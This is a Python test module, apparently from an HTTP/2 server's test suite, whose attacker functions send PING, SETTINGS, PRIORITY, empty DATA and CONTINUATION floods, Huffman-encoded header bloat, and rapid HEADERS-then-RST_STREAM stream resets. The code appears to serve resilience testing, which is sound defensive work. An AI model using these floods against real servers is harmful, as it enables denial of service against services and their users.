"""Frames that cost the sender nothing, as many as go through a connection."""

from typing import Final

from tests.picker.attacks.attackers.blocks import KEPT, PLAIN, literal, opened, zeros
from tests.picker.attacks.attackers.tally import Tally
from tests.picker.attacks.attackers.target import Target
from tests.picker.attacks.attackers.wire import (
    CONTINUATION,
    DATA,
    HEADERS,
    PING,
    PRIORITY,
    RST_STREAM,
    Wire,
    crowd,
    frame,
    settings,
)

_AT_A_TIME: Final = 2_000
_CANCEL: Final = (8).to_bytes(4, "big")
_EIGHTS: Final = 700
"""Of a character in a field: 3,500 bytes that become 5,600 one after another."""
_LAST: Final = 1 << 31


async def pings(target: Target, tally: Tally) -> None:
    """PING, which asks for an answer each."""
    await _flood(target, tally, frame(PING, 0, 0, bytes(8)))


async def settings_frames(target: Target, tally: Tally) -> None:
    """Empty SETTINGS, which ask for an answer each."""
    await _flood(target, tally, settings({}))


async def priorities(target: Target, tally: Tally) -> None:
    """PRIORITY of a stream that nobody has opened."""
    await _flood(target, tally, frame(PRIORITY, 0, 1, bytes([0, 0, 0, 0, 9])))


async def empty_data(target: Target, tally: Tally) -> None:
    """DATA without a byte on an open stream."""
    await _flood(target, tally, frame(DATA, 0, 1), opened(1))


async def continuations(target: Target, tally: Tally) -> None:
    """A header block that goes on by a byte a frame."""
    # a long value of a literal: every byte of it belongs to it
    begun = literal(b"x", bytes(1 << 20))[: 1 << 10]
    await _flood(target, tally, frame(CONTINUATION, 0, 1, b"a"), frame(HEADERS, 0, 1, PLAIN + begun))


async def huffman(target: Target, tally: Tally) -> None:
    """Requests of one large field each, in Huffman's code."""
    field = literal(b"x", zeros(_EIGHTS), huffman=True)

    async def one(wire: Wire) -> None:
        await wire.send(opened(1, KEPT))
        for first in range(3, _LAST, 40):
            await wire.send(
                b"".join(_cancelled(stream_id, PLAIN + field) for stream_id in range(first, first + 40, 2)),
                20,
            )

    await crowd(target.address, tally, one)


async def header_blocks(target: Target, tally: Tally) -> None:
    """20 connections of requests, no two of which have the same header block of 4 KB."""

    async def one(wire: Wire) -> None:
        for stream_id in range(1, _LAST, 2):
            field = literal(b"x", b"%020d" % (id(wire) + stream_id) * 200)
            await wire.send(_cancelled(stream_id, PLAIN + field))

    await crowd(target.address, tally, one, connections=20)


async def _flood(target: Target, tally: Tally, each: bytes, before: bytes = b"") -> None:
    many = each * _AT_A_TIME

    async def one(wire: Wire) -> None:
        await wire.send(before, 0)
        while True:
            await wire.send(many, _AT_A_TIME)

    await crowd(target.address, tally, one)


def _cancelled(stream_id: int, block: bytes) -> bytes:
    return opened(stream_id, block) + frame(RST_STREAM, 0, stream_id, _CANCEL)
